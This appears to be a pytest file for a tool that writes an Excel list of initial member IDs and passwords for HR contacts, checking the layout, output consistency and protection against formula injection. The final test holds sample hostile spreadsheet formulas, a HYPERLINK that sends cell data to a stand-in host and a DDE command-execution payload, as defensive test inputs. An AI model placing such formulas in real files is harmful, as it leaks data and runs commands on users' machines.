"""The 初期ID・パスワード一覧 workbook: the layout an HR contact expects, written by the CLI."""

from __future__ import annotations

import io
import json
from datetime import date

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from adapters.idlist import COMPANY_SHEET, MEMBER_HEADERS, MEMBERS_SHEET, write_id_list
from bot.commands.company import company
from models.companies import Credential, IssuedIds
from models.company import Company


def test_workbook_layout():
    issued = IssuedIds(
        "AB23CD45",
        "テスト株式会社",
        [Credential("M2345ABCDE", "Pw2abcdefg"), Credential("00EFGH2345", "Pw3abcdefg")],
        [Credential("H2345ABCDE", "Hr2abcdefg")],
    )
    stream = io.BytesIO()
    write_id_list(stream, issued, date(2026, 4, 1))
    book = load_workbook(io.BytesIO(stream.getvalue()))
    assert book.sheetnames == [MEMBERS_SHEET, COMPANY_SHEET]
    sheet = book[MEMBERS_SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    assert (
        list(rows[0])
        == MEMBER_HEADERS
        == ["企業コード", "会員ID", "初期パスワード", "氏名", "備考"]
    )
    assert rows[1][:3] == ("AB23CD45", "M2345ABCDE", "Pw2abcdefg")
    assert rows[1][3] is None  # 氏名: for HR to fill in
    assert rows[2][1] == "00EFGH2345"  # kept as text, leading zeros intact
    assert sheet["B3"].number_format == "@"
    assert sheet.freeze_panes == "A2"
    info = book[COMPANY_SHEET]
    values = [list(r) for r in info.iter_rows(values_only=True)]
    assert values[1][:2] == ["企業コード", "AB23CD45"]
    assert values[5][:3] == ["企業担当者", "H2345ABCDE", "Hr2abcdefg"]


@pytest.fixture
def lazy(cli_runtime, cheap_hashing):
    return cli_runtime


def test_cli_writes_the_same_credentials_to_excel_and_json(lazy, db, tmp_path):
    out = tmp_path / "ids.xlsx"
    args = ["create", "--name", "A社", "--seats", "2", "--contact-email", "a@example.jp"]
    result = CliRunner().invoke(company, [*args, "--out", str(out), "--json"], obj=lazy)
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    book = load_workbook(out)
    rows = list(book[MEMBERS_SHEET].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[1], r[2]) for r in rows] == [
        (data["company_code"], m["member_id"], m["password"]) for m in data["members"]
    ]
    hr_rows = list(book[COMPANY_SHEET].iter_rows(min_row=6, values_only=True))
    assert hr_rows[0][1:3] == (
        data["hr_contacts"][0]["member_id"],
        data["hr_contacts"][0]["password"],
    )


def test_unwritable_file_creates_no_company(lazy, dbview, tmp_path):
    out = tmp_path / "missing-dir" / "ids.xlsx"
    args = ["create", "--name", "B社", "--seats", "1", "--contact-email", "b@example.jp"]
    result = CliRunner().invoke(company, [*args, "--out", str(out), "--json"], obj=lazy)
    assert result.exit_code != 0
    assert dbview.query(Company).count() == 0


def test_user_data_starting_with_a_formula_sign_is_written_as_text():
    """Issue 16.17: a company name (or any other value) starting with `=`, `+`, `-` or `@` is
    stored as a text cell, never as a formula Excel would evaluate."""
    hostile = '=HYPERLINK("https://evil.example/?"&B2,"click")'
    issued = IssuedIds(
        "AB23CD45",
        hostile,
        [Credential("M2345ABCDE", "=1+1")],
        [Credential("H2345ABCDE", "+SUM(A1)")],
    )
    stream = io.BytesIO()
    write_id_list(stream, issued, date(2026, 4, 1), note="=cmd|' /C calc'!A0")
    book = load_workbook(io.BytesIO(stream.getvalue()))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    written = {c.value: c.data_type for c in cells if c.value is not None}
    assert written[hostile] == "s"
    assert written["=1+1"] == "s" and written["+SUM(A1)"] == "s"
    assert written["=cmd|' /C calc'!A0"] == "s"
    assert all(c.data_type != "f" for c in cells)
